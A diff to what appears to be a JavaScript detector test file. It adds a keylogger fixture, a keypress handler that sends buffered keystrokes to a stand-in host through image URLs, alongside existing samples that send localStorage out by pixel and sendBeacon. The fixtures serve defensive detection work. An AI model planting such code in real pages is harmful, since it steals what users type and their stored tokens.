@@ -34,6 +34,12 @@ describe('what a page user types, sent to a fixed host', () => {
        img.src = 'https://px.uikit-cdn.example/t.gif?m=' + encodeURIComponent(localStorage.getItem(k));`,
     ],
     [
+      'keystrokes caught by an onkeypress property handler, flushed into an image URL on a timer',
+      `let buf = '';
+       document.onkeypress = function (e) { buf += String.fromCharCode(e.which); };
+       setInterval(function () { if (buf) { new Image().src = 'https://t.uikit-cdn.example/p?k=' + encodeURIComponent(buf); buf = ''; } }, 4000);`,
+    ],
+    [
       'whole localStorage dumped into a beacon',
       `navigator.sendBeacon('https://px.uikit-cdn.example/b', JSON.stringify(localStorage));`,
     ],
